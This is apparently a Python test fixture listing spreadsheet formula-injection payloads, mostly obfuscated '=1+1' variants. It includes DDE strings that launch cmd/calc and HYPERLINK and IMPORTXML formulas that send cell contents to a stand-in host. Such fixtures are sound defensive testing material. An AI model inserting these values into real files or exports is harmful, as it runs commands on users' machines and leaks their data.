"""Texts that a spreadsheet would take for a formula, a command or a cell of its own."""

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("https://example.com/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "%0A=1+1",
    "|cmd",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "\rplain",
    "\nplain",
    " =1+1",
    "\u00a0\u2003=1+1",  # spaces that are not the plain one
    "\ufeff=1+1",  # byte order mark
    "\u200b\u2060=1+1",  # signs without width
    "\0=1+1",
    "\x01\x1f=1+1",
    "\u202e=1+1",  # writes from right to left
    "＝1+1",  # full width
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "％1",
    "｜cmd",
    "﹦1+1",  # small form
    "⁼1+1",  # superscript
    "⁺1",
    "=\u03381+1",  # composes to the sign for “not equal”
    "＝\u03381+1",
    " \u200b＝1+1",
    '=IMPORTXML(CONCAT("https://example.com/?v=", CONCATENATE(A2:E2)), "//a")',
    "=2+5+cmd|'/C calc'!A0;=1+1",
    "-@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
]
